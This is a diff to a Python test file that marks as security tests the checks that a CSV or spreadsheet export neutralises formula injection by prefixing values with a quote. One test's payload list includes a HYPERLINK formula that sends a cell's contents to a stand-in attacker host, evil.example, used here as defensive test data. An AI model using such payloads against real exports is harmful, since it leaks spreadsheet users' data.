@@ -91,6 +91,7 @@ def test_amounts_have_exactly_the_currencys_decimals(currency, gross):
     assert of_type(rows, "total")[0]["gross"] == gross == str(document.totals.gross)
 
 
+@pytest.mark.security
 def test_formula_payloads_are_prefixed_with_a_quote():
     payloads = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")']
     payload = without_totals(number="=1+1")
@@ -110,11 +111,13 @@ def test_quotes_commas_and_newlines_round_trip():
     assert of_type(rows, "line")[0]["description"] == description
 
 
+@pytest.mark.security
 @pytest.mark.parametrize("text", ["=1", "+1", "-1", "@1", "\t=1", "\r=1"])
 def test_inert_text_prefixes_every_trigger(text):
     assert inert_text(text) == "'" + text
 
 
+@pytest.mark.security
 @pytest.mark.parametrize("text", ["", "plain", "1-2", " =1", "a=b"])
 def test_inert_text_leaves_other_text_alone(text):
     assert inert_text(text) == text
